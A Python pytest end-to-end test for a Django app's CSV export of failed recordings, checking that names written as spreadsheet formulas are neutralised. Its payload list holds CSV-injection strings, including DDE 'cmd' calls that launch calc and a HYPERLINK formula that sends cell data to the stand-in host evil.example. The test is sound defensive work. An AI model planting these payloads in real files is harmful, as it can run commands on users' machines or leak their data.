"""Export of real failures: a spreadsheet executes none of the names, whatever they contain (row Q36)."""

import csv
import io
from itertools import cycle

import pytest
from django.test import Client

from rokuon.accounts.models import Membership, Person
from rokuon.ledger.models import Copy
from tests.e2e.conftest import MakeRig
from tests.e2e.rig import Rig, small_world

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    'x";=1+1;"',
    'x"\n=1+1',
]
RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")


def rename_everything(rig: Rig) -> None:
    company, names = rig.sim.world.first, cycle(FORMULAS)
    for place in (*company.offices, *company.centers, *company.teams):
        place.name = next(names)
    for user in company.users:
        user.first, user.last = next(names), ""
    rig.sync()


def exported(rig: Rig) -> str:
    person = Person.objects.create(email="ken@acme.example")
    Membership.objects.create(person=person, company=rig.company, role=Membership.Role.COMPANY_ADMIN)
    browser = Client(headers={"accept-language": "en"})
    browser.force_login(person)
    answer = browser.post(f"/c/{rig.company.public_id}/failures/export/")
    return b"".join(answer.streaming_content).decode()  # type: ignore[attr-defined]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_q36_names_that_are_formulas_run_in_no_spreadsheet_when_their_recordings_fail(
    rig_of: MakeRig, impatient: None, delimiter: str
) -> None:
    rig = rig_of(world=small_world(recordings=30))
    rename_everything(rig)
    rig.sim.faults.load([{"endpoint": "media_blob", "action": {"kind": "status", "status": 403}}])
    rig.back_up_now()
    failed = Copy.objects.exclude(state="excluded").exclude(state="verified")
    assert failed.count() > 20, "real failures, by the answers of the simulated Dialpad"
    assert {name[0] for name in failed.values_list("agent", flat=True) if name} & set(RUNS)
    text = exported(rig).removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) - 1 >= failed.count()
    assert any("cmd|" in cell for row in rows for cell in row)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        assert not [cell for cell in row if cell.startswith(RUNS) or cell.lstrip().startswith(("=", "@"))]
